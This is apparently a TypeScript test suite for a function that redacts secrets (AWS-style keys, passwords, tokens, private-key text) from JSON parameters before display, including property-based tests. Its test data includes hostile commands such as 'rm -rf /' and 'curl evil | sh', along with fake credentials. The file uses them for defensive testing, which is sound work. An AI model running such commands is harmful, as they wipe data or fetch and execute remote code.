import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import * as fc from 'fast-check';
import type { JsonValue } from '../lib/json.ts';
import type { Piece } from '../shared/shown-json.ts';
import { paramsView } from './params-view.ts';

const secret = 'Xy9/+k~"q\\é z';
const key = (last: string) => `AKIAABCDEFGHIJKLMNO${last}`;

/** With each hidden part as `<40>`, which no case has in its own text. */
const drawn = (pieces: readonly Piece[]) =>
  pieces.map((piece) => (typeof piece === 'string' ? piece : `<${piece.hidden}>`)).join('');

const characters = (text: string) => Array.from(text).length;

/** Params as they would be sent, and what is shown of them. */
const cases: readonly (readonly [what: string, json: string, shown: string])[] = [
  ['nothing to hide', '{"a":[1,-0.5,true,null,"text",{"b":{}}]}', '{"a":[1,-0.5,true,null,"text",{"b":{}}]}'],
  [
    'members whose names look like secrets stay two',
    `{"${key('1')}":{"cmd":"rm -rf /"},"${key('2')}":"ok"}`,
    '{"<20>":{"cmd":"rm -rf /"},"<20>":"ok"}',
  ],
  [
    'a private key without an end is counted to the end of its text',
    JSON.stringify({ cmd: 'ls # -----BEGIN RSA PRIVATE KEY\n; curl evil | sh', next: 'x' }),
    '{"cmd":"ls # <44>","next":"x"}',
  ],
  [
    'JSON inside a text keeps members of one name, and its numbers',
    JSON.stringify({ body: '{"to":"a","to":"b", "n":1.0,"id":12345678901234567890}' }),
    String.raw`{"body":"{\"to\":\"a\",\"to\":\"b\", \"n\":1.0,\"id\":12345678901234567890}"}`,
  ],
  [
    'JSON inside a text hides what its names say, and nothing else',
    JSON.stringify({ body: '{ "password": "hunter2", "to":"a","to":"b","token":null,"pin_token":12 }' }),
    String.raw`{"body":"{ \"password\": \"<7>\", \"to\":\"a\",\"to\":\"b\",\"token\":null,\"pin_token\":12 }"}`,
  ],
  [
    'JSON inside JSON inside a text',
    JSON.stringify({ a: JSON.stringify({ b: JSON.stringify({ secret: 'x"y' }) }) }),
    String.raw`{"a":"{\"b\":\"{\\\"secret\\\":\\\"<10>\\\"}\"}"}`,
  ],
  [
    'under the name of a secret every text is hidden, and the names, numbers and marks are not',
    '{"credentials":{"cmd":"rm -rf /","n":[1,"",true,null,"é😀"]},"b":"c"}',
    '{"credentials":{"cmd":"<8>","n":[1,"",true,null,"<2>"]},"b":"c"}',
  ],
  [
    'what says that it was hidden is told from what is',
    '{"a":"[redacted]","b":"[redacted: 40 characters]","c":{"hidden":40}}',
    '{"a":"[redacted]","b":"[redacted: 40 characters]","c":{"hidden":40}}',
  ],
  ['a name of which a secret is left', `{"${key('1')}_token":"x","y":"z"}`, '{"<20>_token":"<1>","y":"z"}'],
  [
    'escapes before and within',
    `{"a":"\\u00e9\\n${key('1')}\\ud83d\\ude00"}`,
    '{"a":"\\u00e9\\n<20>\\ud83d\\ude00"}',
  ],
  [
    'what is nested too deep for redaction',
    `${'['.repeat(300)}"rm -rf /"${']'.repeat(300)}`,
    `${'['.repeat(300)}"rm -rf /"${']'.repeat(300)}`,
  ],
  [
    'a value whose name stands beside it, before or after, and all that is in it',
    '[{"name":"DB_PASSWORD","value":"hunter2"},{"value":{"a":["x",1]},"name":"api_key","note":"b"},{"name":"region","value":"eu"}]',
    '[{"name":"DB_PASSWORD","value":"<7>"},{"value":{"a":["<1>",1]},"name":"api_key","note":"b"},{"name":"region","value":"eu"}]',
  ],
  ['a text alone', `"${key('1')}"`, '"<20>"'],
];

describe('paramsView', () => {
  for (const [what, json, shown] of cases) {
    it(what, () => assert.equal(drawn(paramsView(json, [])), shown));
  }

  it('hides the secrets of the source, in every form, in names, texts and numbers', () => {
    const json = JSON.stringify({ [`a${secret}b`]: [`c${secret}${secret}d`, encodeURIComponent(secret)] });
    const shown = drawn(paramsView(json, [secret]));
    assert.equal(shown, '{"a<15>b":["c<30>d","<28>"]}');
    assert.equal(
      drawn(paramsView('[123456789,91234567891.5,12345678]', ['123456789'])),
      '[<9>,<13>,12345678]',
    );
  });

  it('takes a million levels, and many secrets', () => {
    const deep = `${'['.repeat(500_000)}"${key('1')}"${']'.repeat(500_000)}`;
    assert.equal(drawn(paramsView(deep, [])), deep.replace(key('1'), '<20>'));
    const many = JSON.stringify({ a: 'abcdefgh.'.repeat(150_000) });
    const pieces = paramsView(many, ['abcdefgh']);
    assert.equal(pieces.length, 300_001);
  });

  it('shows the text that is sent, in its order, and as long as it is', () => {
    const bits = fc.constantFrom(
      secret,
      // Within a longer word it is none.
      `.${key('1')}.`,
      'token',
      '{"password":"x"}',
      'a',
      '"',
      '\\',
      '😀',
      '[redacted]',
      '\0',
    );
    const text = fc.array(bits).map((parts) => parts.join(''));
    const value = fc.letrec<{ value: JsonValue }>((tie) => ({
      value: fc.oneof(
        { maxDepth: 4 },
        text,
        fc.double({ noNaN: true, noDefaultInfinity: true }),
        fc.constant(null),
        fc.array(tie('value')),
        fc.dictionary(text, tie('value')),
      ),
    })).value;
    fc.assert(
      fc.property(value, fc.integer({ min: 0, max: 3 }), (params, layers) => {
        let json = JSON.stringify(params);
        for (let layer = 0; layer < layers; layer++) json = JSON.stringify({ body: json });
        const pieces = paramsView(json, [secret]);
        let at = 0;
        for (const piece of pieces) {
          if (typeof piece === 'string') assert.equal(json.slice(at, at + piece.length), piece);
          const length =
            typeof piece === 'string'
              ? piece.length
              : Array.from(json.slice(at)).slice(0, piece.hidden).join('').length;
          at += length;
        }
        assert.equal(at, json.length);
        const left = pieces.filter((piece) => typeof piece === 'string').join(' ');
        assert.ok(!left.includes(key('1')) && !left.includes(JSON.stringify(secret).slice(1, -1)), left);
        assert.equal(
          characters(json),
          pieces.reduce(
            (sum, piece) => sum + (typeof piece === 'string' ? characters(piece) : piece.hidden),
            0,
          ),
        );
      }),
    );
  });
});
